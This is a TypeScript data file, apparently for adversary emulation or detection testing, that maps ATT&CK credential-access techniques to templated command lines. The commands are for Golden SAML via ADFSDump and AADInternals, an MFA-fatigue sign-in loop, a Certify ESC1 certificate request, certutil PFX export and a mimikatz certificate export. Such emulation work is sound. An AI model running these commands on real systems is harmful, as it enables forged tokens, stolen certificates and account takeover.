import { t, v } from "../dsl";

/** Credential access, continued: stores, Kerberos, certificates, adversary-in-the-middle. (continued) */
export const credentialAccess2B = [
  t(
    "T1606.002",
    "SAML tokens",
    "Golden SAML: AD FS token-signing certificate used to mint tokens (ADFSDump, AADInternals).",
    [
      v(
        "adfsdump",
        [
          {
            cmd: "cmd.exe /Q /c C:\\Windows\\Temp\\ADFSDump.exe 1> \\\\127.0.0.1\\ADMIN$\\__{{n}}.{{rand}} 2>&1",
            as: "c",
            host: "@server",
            parent: "@wmiprvse",
            user: "@admin",
          },
          { cmd: "C:\\Windows\\Temp\\ADFSDump.exe", parent: "c", host: "@server" },
        ],
        { shell: "none" },
      ),
      v(
        "aadinternals",
        [
          {
            ps: "Export-AADIntADFSSigningCertificate; Open-AADIntOffice365Portal -ImmutableID {{rand2}} -Issuer http://sts.{{dns}}/adfs/services/trust -PfxFileName .\\ADFSSigningCertificate.pfx",
          },
        ],
        { shell: "ps", elevated: true },
      ),
    ],
  ),
  t(
    "T1621",
    "MFA request generation",
    "Repeated sign-ins to trigger push fatigue; on the host, a script looping logins.",
    [
      v(
        "mfa-fatigue",
        [
          {
            ps: "1..20 | % { Invoke-WebRequest -Uri https://login.microsoftonline.com/common/oauth2/token -Method POST -Body $body; Start-Sleep 30 }",
            net: [["login.microsoftonline.com", 443]],
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1649",
    "Authentication certificates",
    "Certificates requested or stolen with Certify/Certipy/certutil (ESC1 and friends).",
    [
      v("certify", [
        {
          cmd: "{{tools}}\\Certify.exe request /ca:{{dcfqdn}}\\{{domain}}-CA /template:VulnTemplate /altname:{{admin}}",
          net: [["@dc", 135]],
        },
      ]),
      v("certutil-export", ["certutil -store My", "certutil -exportPFX My {{rand2}} {{tmp}}\\user.pfx"]),
      v(
        "mimikatz-crypto",
        [
          '{{tools}}\\mimikatz.exe "crypto::capi" "crypto::certificates /systemstore:local_machine /store:my /export" exit',
        ],
        { elevated: true },
      ),
    ],
  ),
];
